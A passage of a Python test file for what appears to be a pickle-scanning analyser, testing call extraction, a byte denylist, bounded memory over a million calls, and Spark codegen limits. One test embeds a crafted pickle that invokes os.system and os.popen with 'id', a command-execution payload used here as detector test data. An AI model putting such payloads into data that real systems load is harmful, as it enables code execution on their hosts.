            calls.append((seq, rng.choice(["REDUCE", "REDUCE", "BUILD", "EXT1"]), rng.choice(["x", V.BYTES_DENYLIST[0]]), rng.random() < 0.4, rng.random() < 0.3, rng.randint(0, end), end, text if text is not None else pick(), text, data if data is not None else pick(), data))
        chooser, got = verdict.Chooser(), []
        for c in calls:
            got += chooser.call("b", *c)
        got += chooser.flush()
        assert [r[1:] for r in got] == plain_hits(calls)


def test_a_stream_of_many_calls_holds_few_rows():
    """A million calls of one stream: only the rows of one end are held."""
    chooser, n = verdict.Chooser(), 0
    for k in range(1_000_000):
        n += len(chooser.call("b", k, "REDUCE", "m.x", True, False, 3 * k, 3 * k + 2, 0, None, None, None))
        assert len(chooser.held) <= 1
    assert n + len(chooser.flush()) == 1_000_000


def test_calls_made_field_by_field_and_generated_methods_are_compiled(spark):
    """Rows of calls are what `from_pylist` makes of them; whole stages of many rules stay below the size from which the JVM only interprets."""
    from carvelake.operators import machine

    data = b"\x80\x02cos\nsystem\n\x8c\x02idq\x00\x85Rcos\npopen\nh\x00C\x01x\x86R\x82\x01."
    held = [c | {"blob_id": "b", "protocol": 2} for c in machine.each_call(data)]
    assert len(held) == 3 and machine._call_batch(held).equals(machine.pa.RecordBatch.from_pylist(held, machine.CALLS))
    assert int(spark.conf.get("spark.sql.codegen.hugeMethodLimit")) <= 8000
